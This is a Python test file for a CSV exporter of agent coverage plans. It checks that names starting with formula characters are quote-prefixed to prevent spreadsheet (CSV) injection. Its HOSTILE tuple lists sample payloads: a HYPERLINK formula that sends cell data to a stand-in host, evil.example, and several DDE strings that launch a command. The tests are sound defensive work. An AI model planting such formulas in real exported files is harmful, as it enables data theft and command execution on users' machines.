"""The coverage CSV never hands a spreadsheet a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from console.coverage import AgentCoverage, CoveragePlan, MarketCoverage, ShiftView, write_csv
from console.coverage.export import plan_csv, safe_cell

WEEK_START = datetime(2026, 11, 16, tzinfo=UTC)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _plan(names: tuple[str, ...]) -> CoveragePlan:
    agents = tuple(
        AgentCoverage(
            id=n,
            name=name,
            role="agent",
            languages=("en",),
            zone="UTC",
            shifts=(ShiftView(n * 10, 0, "09:00", "17:00", "UTC", date(2026, 1, 1), None),),
        )
        for n, name in enumerate(names, start=1)
    )
    market = MarketCoverage(1, "=DE", "@Germany", ("de",), "Europe/Berlin", (), "DE")
    return CoveragePlan(
        "UTC", WEEK_START, agents, (market,), frozenset((1, agent.id) for agent in agents)
    )


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_formula_names_are_prefixed_in_the_written_file(tmp_path: Path) -> None:
    path = write_csv(_plan(HOSTILE), tmp_path / "plan.csv")
    cells = _cells(path.read_bytes().decode("utf-8"))
    for name in HOSTILE:
        assert "'" + name in cells
        assert name not in cells
    assert "'=DE" in cells and "'@Germany" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_real_numbers_stay_numbers() -> None:
    for number in ("-5", "+3", "-0.25", "12", "-1,5"):
        assert safe_cell(number) == number
    assert safe_cell("-5x") == "'-5x"
    assert safe_cell("Ana") == "Ana"
    assert safe_cell("") == ""


@given(st.text(max_size=30))
def test_no_cell_of_any_name_starts_a_formula(name: str) -> None:
    cells = _cells(plan_csv(_plan((name,))))
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert cell.lstrip("+-").replace(".", "", 1).replace(",", "", 1).isdigit()
